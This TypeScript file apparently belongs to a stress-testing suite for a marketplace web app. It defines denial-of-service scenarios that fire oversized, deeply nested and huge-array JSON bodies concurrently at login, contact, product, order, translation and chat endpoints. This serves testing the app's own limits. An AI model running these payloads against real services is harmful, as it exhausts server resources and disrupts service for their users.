// Attacks with JSON that is expensive to parse: without a token, on endpoints that need no body, and with a token.

import type { Attack, AttackContext } from '../attack-context.ts';
import { runConcurrently } from '../client.ts';
import { emptyObjects, JSON_TYPE, manyKeys, nested } from '../payloads.ts';

/** Bytes; just below the server's body limit when the attack was found. */
const LARGE_BODY_BYTES = 1_040_000;
/** Bytes; just below the current limit. */
const SMALL_BODY_BYTES = 31_000;

const sendConcurrently = async (
  { until, send }: Pick<AttackContext, 'until' | 'send'>,
  width: number,
  path: string,
  bodies: readonly string[],
  token?: (at: number) => string,
  method = 'POST',
): Promise<void> =>
  runConcurrently(width, until, (at) =>
    send(at, {
      method,
      path,
      headers: JSON_TYPE,
      body: bodies[at % bodies.length] ?? '',
      ...(token ? { token: token(at) } : {}),
    }),
  );

const signInBodies = [
  `{"email":"a@example.com","password":"x","j":${emptyObjects(LARGE_BODY_BYTES)}}`,
  `{"email":"a@example.com","password":"x","j":${emptyObjects(SMALL_BODY_BYTES)}}`,
  `{"email":"a@example.com","password":"x","j":[${'[],'.repeat(LARGE_BODY_BYTES / 3 - 30)}[]]}`,
];

const deeplyNested = [
  nested(10_000),
  nested(1_000),
  `{"email":${nested(10_000)},"password":"x"}`,
  nested(500_000),
  `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`,
];

export const BODIES: readonly Attack[] = [
  {
    name: 'sign-in-json',
    summary: 'ten sign-ins at once, 1 MB of JSON each',
    seconds: 10,
    sources: [1, 200],
    quick: { sources: 200, seconds: 4 },
    postgres: true,
    run: (field) => sendConcurrently(field, 10, '/api/auth/login', signInBodies),
  },
  {
    name: 'deep-json',
    summary: 'JSON of 10,000 levels and more, ten at once',
    seconds: 8,
    sources: [1, 200],
    run: (field) => sendConcurrently(field, 10, '/api/contact', deeplyNested),
  },
  {
    name: 'specifications',
    summary: '100,000 specifications in JSON, or half as many, four at once',
    seconds: 8,
    sources: [1, 200],
    quick: { sources: 200, seconds: 4 },
    postgres: true,
    run: (field) => {
      const bodies = [100_000, 50_000].flatMap((number) =>
        ['""', '0', '{}'].map(
          (value) => `{"name":"Mill","status":"draft","specifications":${manyKeys(number, value)}}`,
        ),
      );
      return sendConcurrently(
        field,
        4,
        '/api/products/create-new',
        bodies,
        (at) => field.supplier(at).token,
      );
    },
  },
  {
    name: 'wrong-fields',
    summary: 'bodies with 100,000 wrong entries in every list, four at once',
    seconds: 8,
    sources: [1, 200],
    run: async (field) => {
      const entries = `[${'0,'.repeat(99_999)}0]`;
      await runConcurrently(4, field.until, async (at) => {
        const [path, token, body] = [
          ['/api/products/my/bulk', field.supplier(at).token, `{"ids":${entries}}`],
          ['/api/orders', field.buyer(at).token, `{"supplierId":"x","products":${entries}}`],
          ['/api/translate/batch', undefined, `{"texts":${entries},"targetLang":"en"}`],
          ['/api/chats', field.buyer(at).token, `{"userIds":${entries}}`],
        ][at % 4] as [string, string | undefined, string];
        await field.send(at, {
          method: 'POST',
          path,
          headers: JSON_TYPE,
          body,
          ...(token ? { token } : {}),
        });
      });
    },
  },
];
